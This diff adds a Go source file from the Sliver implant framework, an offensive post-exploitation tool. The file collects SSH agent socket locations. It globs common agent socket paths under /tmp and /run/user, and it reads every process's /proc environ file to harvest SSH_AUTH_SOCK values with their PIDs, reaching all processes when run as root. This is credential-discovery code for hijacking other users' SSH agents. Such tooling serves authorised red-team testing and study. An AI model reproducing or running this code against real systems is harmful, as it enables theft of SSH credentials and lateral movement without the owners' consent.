@@ -0,0 +1,61 @@
+package sshkeys
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strconv"
+)
+
+var (
+	homeRoots = []string{"/home"}
+
+	agentSocketPatterns = []string{
+		"/tmp/ssh-*/agent.*",
+		"/run/user/*/keyring/ssh",
+		"/run/user/*/gnupg/S.gpg-agent.ssh",
+		"/run/user/*/openssh_agent",
+	}
+)
+
+// processSockets - The SSH_AUTH_SOCK of every process whose environment we can
+// read, which is every process when we're root
+func processSockets() []agentSocket {
+	sockets := []agentSocket{}
+	environs, _ := filepath.Glob("/proc/[0-9]*/environ")
+	for _, environ := range environs {
+		data, err := os.ReadFile(environ)
+		if err != nil {
+			continue
+		}
+		for _, variable := range bytes.Split(data, []byte{0}) {
+			if !bytes.HasPrefix(variable, []byte("SSH_AUTH_SOCK=")) {
+				continue
+			}
+			pid, _ := strconv.Atoi(filepath.Base(filepath.Dir(environ)))
+			sockets = append(sockets, agentSocket{
+				Path: string(bytes.TrimPrefix(variable, []byte("SSH_AUTH_SOCK="))),
+				Pid:  int32(pid),
+			})
+		}
+	}
+	return sockets
+}